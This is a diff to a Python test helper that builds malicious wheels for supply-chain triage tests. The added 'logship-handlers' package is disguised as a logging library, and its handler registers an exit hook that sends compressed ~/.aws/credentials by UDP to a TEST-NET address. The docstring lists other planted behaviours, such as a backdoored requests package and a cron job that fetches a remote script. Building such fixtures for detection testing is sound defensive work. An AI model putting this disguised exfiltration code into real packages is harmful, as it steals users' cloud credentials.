@@ -2,7 +2,7 @@
 """Writes one of the wheels the triage tests make on the fly. Only writes
 the archive: nothing of it runs here.
 
-  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi OUT.whl
+  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi|atexit OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -52,6 +52,11 @@ bareapi sshconf-tools: nothing at install or import; the first call of
         backdoor in a function only callers run). The exercise phase
         calls each plain function once: bare, or with '' for one
         argument.
+atexit  logship-handlers: nothing at install or import; making its
+        BufferedHandler (no argument needed) registers an exit handler
+        that, at the program's end, sends ~/.aws/credentials compressed in
+        a UDP datagram to a TEST-NET address. The exercise phase makes
+        each class that needs no argument, then runs the exit handlers.
 cronjob sched-sync-agent: on import, lists the user's crontab and, when
         its job is not there, installs the table with it added through
         `crontab -` (a job that would fetch a script from a TEST-NET
@@ -214,6 +219,29 @@ BAREAPI = (
     "        if k.lower() == 'host':\n"
     "            hosts[v] = {}\n"
     "    return hosts\n"
+)
+
+ATEXIT = (
+    "import atexit, logging, os, socket, zlib\n"
+    "_armed = False\n"
+    "def _flush_all():\n"
+    "    try:\n"
+    "        with open(os.path.expanduser('~/.aws/credentials'), 'rb') as f:\n"
+    "            blob = zlib.compress(f.read())\n"
+    "        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+    "        s.sendto(b'LGB1' + blob, ('192.0.2.14', 33434))\n"
+    "    except OSError:\n"
+    "        pass\n"
+    "class BufferedHandler(logging.Handler):\n"
+    "    def __init__(self, capacity=100, level=logging.NOTSET):\n"
+    "        global _armed\n"
+    "        super().__init__(level)\n"
+    "        self.capacity, self.buf = capacity, []\n"
+    "        if not _armed:\n"
+    "            _armed = True\n"
+    "            atexit.register(_flush_all)\n"
+    "    def emit(self, record):\n"
+    "        self.buf.append(self.format(record))\n"
 )
 
 KEYS = (
@@ -470,6 +498,8 @@ KINDS = {
                {"ntp_skew_check/__init__.py": XORUDP}),
     "bareapi": ("sshconf_tools", "1.0.6",
                 {"sshconf_tools/__init__.py": BAREAPI}),
+    "atexit": ("logship_handlers", "0.8.0",
+               {"logship_handlers/__init__.py": ATEXIT}),
     "inplace": ("doc_sync_tools", "1.0.2",
                 {"doc_sync_tools/__init__.py": INPLACE}),
     "profiles": ("aws_profile_lister", "1.0.0",
